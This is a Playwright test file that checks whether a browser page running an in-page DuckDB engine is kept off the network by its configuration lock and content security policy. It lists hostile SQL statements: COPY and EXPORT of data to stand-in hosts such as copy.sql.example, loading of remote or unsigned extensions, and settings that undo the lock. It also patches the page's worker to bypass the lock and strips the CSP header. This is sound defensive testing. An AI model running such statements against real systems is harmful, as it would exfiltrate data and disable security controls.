import { expect, type Page } from '@playwright/test';
import { test } from './asked-hosts.ts';
import { askNative } from './native.ts';
import { reached } from './reached.ts';

const readers = [
	...['read_csv', 'read_csv_auto', 'read_text', 'read_blob', 'sniff_csv', 'glob'],
	...['read_json', 'read_parquet', 'parquet_metadata']
];
const schemes = ['https', 'http', 's3', 'hf'];

/** Statements that would tell another host something, fetch a program from it, or undo the lock. */
const statements: readonly string[] = [
	...readers.flatMap((reader) =>
		schemes.map(
			(scheme) => `FROM ${reader}('${scheme}://${reader.replaceAll('_', '-')}.sql.example/x')`
		)
	),
	"FROM 'https://csv.sql.example/x.csv'",
	"FROM 'https://parquet.sql.example/x.parquet'",
	"FROM 'https://json.sql.example/x.json'",
	"SET VARIABLE told = (SELECT 'https://variable.sql.example/' || max(value) FROM observation)",
	"FROM read_text(getvariable('told'))",
	"COPY observation TO 'https://copy.sql.example/x.csv'",
	"COPY observation TO 's3://copy/x.csv'",
	"COPY (FROM area) TO 'https://copy.sql.example/x.parquet' (FORMAT parquet)",
	"EXPORT DATABASE 's3://export/x'",
	"IMPORT DATABASE 'https://import.sql.example/x'",
	"ATTACH 'https://attach.sql.example/x.duckdb'",
	"ATTACH 's3://attach/x.duckdb'",
	"ATTACH 'host=postgres.sql.example' (TYPE postgres)",
	"ATTACH 'https://sqlite.sql.example/x.db' (TYPE sqlite)",
	'INSTALL httpfs',
	'LOAD httpfs',
	'LOAD icu',
	"INSTALL spatial FROM 'https://repository.sql.example'",
	'INSTALL h3 FROM community',
	"LOAD 'https://load.sql.example/x.duckdb_extension.wasm'",
	'UPDATE EXTENSIONS',
	"CREATE SECRET (TYPE s3, ENDPOINT 'secret.sql.example')",
	"SET custom_extension_repository = 'https://custom.sql.example'",
	"SET http_proxy = 'proxy.sql.example:80'",
	'SET enable_external_access = true',
	'RESET enable_external_access',
	'SET lock_configuration = false',
	'SET GLOBAL lock_configuration = false',
	'SET allow_unsigned_extensions = true',
	'SET autoinstall_known_extensions = true',
	'SET autoload_known_extensions = true',
	"SET temp_directory = 'https://temp.sql.example/'",
	"PRAGMA profiling_output = 'https://profile.sql.example/x'",
	"SELECT now() AT TIME ZONE 'Europe/London'",
	'SELECT * FROM area ORDER BY name COLLATE de'
];

/** What the site says to its engine before the first question. */
const locks = [
	'SET autoinstall_known_extensions = false',
	'SET autoload_known_extensions = false',
	'SET enable_external_access = false',
	'SET lock_configuration = true'
];

/** Keeps the engine's worker and its connection, and leaves `locks` unsaid. */
function holdEngine(locks: readonly string[]): void {
	const held: { worker?: Worker; connection?: number } = {};
	const { postMessage } = Worker.prototype;
	Worker.prototype.postMessage = function (this: Worker, message, ...rest: unknown[]) {
		const { type, data } = message as { type: string; data: [number, string] };
		if (type === 'RUN_QUERY' && locks.includes(data[1])) data[1] = 'SELECT 1';
		Reflect.apply(postMessage, this, [message, ...rest]);
	};
	globalThis.Worker = class extends globalThis.Worker {
		constructor(...parameters: ConstructorParameters<typeof Worker>) {
			super(...parameters);
			held.worker = this;
			this.addEventListener('message', ({ data }) => {
				if (data.type === 'CONNECTION_INFO') held.connection = data.data;
			});
		}
	};
	Object.assign(globalThis, { held });
}

/** Says each statement to the page's own engine, past the page; gives how many it did not refuse. */
async function say(page: Page, all: readonly string[]): Promise<number> {
	return page.evaluate(async (all) => {
		const { worker, connection } = (
			globalThis as unknown as { held: { worker: Worker; connection: number } }
		).held;
		let taken = 0;
		for (const [at, statement] of all.entries()) {
			const messageId = 1e6 + at;
			const answer = new Promise<string>((resolve) => {
				const listen = ({ data }: MessageEvent<{ requestId: number; type: string }>) => {
					if (data.requestId !== messageId) return;
					worker.removeEventListener('message', listen);
					resolve(data.type);
				};
				worker.addEventListener('message', listen);
			});
			worker.postMessage({ messageId, type: 'RUN_QUERY', data: [connection, statement] });
			if ((await answer) !== 'ERROR') taken += 1;
		}
		return taken;
	}, all);
}

async function open(page: Page, isUnlocked: boolean) {
	await page.addInitScript(holdEngine, isUnlocked ? locks : []);
	await page.goto('/compare/');
	await expect(page.locator('html')).toHaveAttribute('data-engine', 'ready', { timeout: 60_000 });
}

const locked = `SELECT CASE WHEN current_setting('lock_configuration')
	AND NOT current_setting('enable_external_access') THEN 1 ELSE error('unlocked') END`;

test('tells no other host anything, whatever the engine is told, and stays locked', async ({
	hosts,
	page
}) => {
	await open(page, false);
	await say(page, statements);
	expect(await say(page, [locked])).toBe(1);
	expect(hosts).toEqual([]);
	await page.getByLabel('Measure', { exact: true }).selectOption('social-worker-vacancy-rate');
	const [row] = await askNative(
		`SELECT printf('%.1f%%', value) AS value FROM observation
		WHERE area = 'luton' AND metric = 'social-worker-vacancy-rate' AND period_end = '2025-09-30'`
	);
	await expect(page.locator('#row-luton-2025')).toHaveText(String(row?.value));
	await expect(page.locator('.answer')).toHaveAttribute('data-answered-by', 'engine');
	reached(test.info(), 'engine-network', statements.length);
});

test('tells no other host anything by its policy alone, where the engine is not locked', async ({
	hosts,
	page
}) => {
	await open(page, true);
	expect(await say(page, [locked])).toBe(0);
	await say(page, statements);
	expect(hosts).toEqual([]);
	reached(test.info(), 'policy-alone', statements.length);
});

test('would tell other hosts much without lock and policy', async ({ hosts, page }) => {
	await page.route('**/compare/', async (route) => {
		const response = await route.fetch();
		const body = (await response.text()).replace(
			/<meta http-equiv="content-security-policy"[^>]*>/,
			''
		);
		await route.fulfill({ response, body });
	});
	await open(page, true);
	await say(page, statements);
	expect(new Set(hosts).size).toBeGreaterThan(10);
});
